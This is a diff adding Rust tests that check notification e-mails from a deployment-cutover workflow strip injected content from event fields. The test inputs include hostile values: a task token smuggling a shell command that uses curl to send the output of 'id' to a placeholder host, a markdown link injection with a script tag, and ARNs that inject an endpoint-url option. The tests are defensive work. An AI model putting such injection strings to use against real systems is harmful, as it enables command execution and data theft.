@@ -1,0 +1,106 @@
+//! Messages about status events: whoever can put an event chooses neither where a link leads nor what a
+//! command does.
+
+use interpreter::ExecutionId;
+use serde_json::{Value, json};
+
+use crate::Simulation;
+use crate::machines::NOTIFICATION;
+
+/// The message to subscribers by e-mail that a status event causes.
+fn message(detail: &Value) -> String {
+    let simulation = Simulation::blueprint();
+    let event = json!({"id": "6a7e8feb-b491-4cf7-a9f1-bf3703467718", "detail": detail});
+    let notification = ExecutionId::new(NOTIFICATION, "message");
+    let machines = &simulation.world.step_functions;
+    machines
+        .start(NOTIFICATION, Some("message"), &event)
+        .unwrap();
+    simulation.run_to_end(&notification, || {}).unwrap();
+    let published = simulation.world.published.borrow();
+    let message = published[0]["Message"].as_str().unwrap();
+    let message: Value = serde_json::from_str(message).unwrap();
+    message["email"].as_str().unwrap().to_owned()
+}
+
+#[test]
+fn links_lead_to_executions_of_the_stack_whatever_an_event_says() {
+    const STACK: &str = "arn:aws:states:eu-west-3:111122223333:execution:cutover";
+    for (given, linked) in [
+        (
+            format!("{STACK}-migration:2026-11-upgrade_1.34"),
+            format!("{STACK}-migration:2026-11-upgrade_1.34"),
+        ),
+        (
+            format!("{STACK}-rollback:run"),
+            format!("{STACK}-rollback:run"),
+        ),
+        (
+            format!("{STACK}-release:run"),
+            format!("{STACK}-release:run"),
+        ),
+        (
+            format!("{STACK}-of-somebody-else-migration:run"),
+            format!("{STACK}-migration:run"),
+        ),
+        (
+            "arn:aws-cn:states:example.com/#:999999999999:execution:evil:run".to_owned(),
+            format!("{STACK}-migration:run"),
+        ),
+        (
+            format!("{STACK}-migration:run](//example.com) <script>"),
+            format!("{STACK}-migration:run//example.comscript"),
+        ),
+        (
+            "https://example.com".to_owned(),
+            format!("{STACK}-migration"),
+        ),
+    ] {
+        let message = message(&json!({
+            "status": "NotStarted", "execution": "run", "executionArn": given, "reason": "why",
+        }));
+        let links: Vec<_> = message
+            .lines()
+            .filter(|line| line.contains("https://"))
+            .collect();
+        let console = "https://eu-west-3.console.aws.amazon.com";
+        let execution = format!(
+            "Execution: {console}/states/home?region=eu-west-3#/v2/executions/details/{linked}"
+        );
+        let dashboard = format!(
+            "Dashboard: {console}/cloudwatch/home?region=eu-west-3#dashboards/dashboard/cutover"
+        );
+        assert_eq!(links, [execution, dashboard], "{given}");
+    }
+}
+
+#[test]
+fn commands_answer_a_token_whatever_an_event_says() {
+    for (given, passed) in [
+        (
+            "AQCEAAAAKgAAAAMAAAAAAAAAAb+c/d-e_f==",
+            "AQCEAAAAKgAAAAMAAAAAAAAAAb+c/d-e_f==",
+        ),
+        ("a`; curl -d \"$(id)\" 'x'\n& b | c > d", "acurl-didxbcd"),
+    ] {
+        let message = message(&json!({
+            "status": "ApprovalRequested", "execution": "run", "zoneName": "example.com",
+            "from": "blue", "to": "green", "names": 1, "percent": 10, "nextPercent": 50,
+            "timeoutSeconds": 60, "onRefusal": "hold", "taskToken": given,
+            "executionArn": "arn:aws-cn:states:cn-north-1 --endpoint-url x:1:execution:evil:run",
+        }));
+        let commands: Vec<_> = message
+            .lines()
+            .filter(|line| line.contains("aws stepfunctions"))
+            .collect();
+        let command = "aws stepfunctions send-task";
+        let approve = format!(
+            "Approve: `{command}-success --region eu-west-3 --task-output '{{}}' --task-token {passed}`"
+        );
+        let refuse = format!(
+            "Refuse: `{command}-failure --region eu-west-3 --error Refused --cause 'who and why' \
+             --task-token {passed}`"
+        );
+        assert_eq!(commands, [approve, refuse]);
+    }
+}
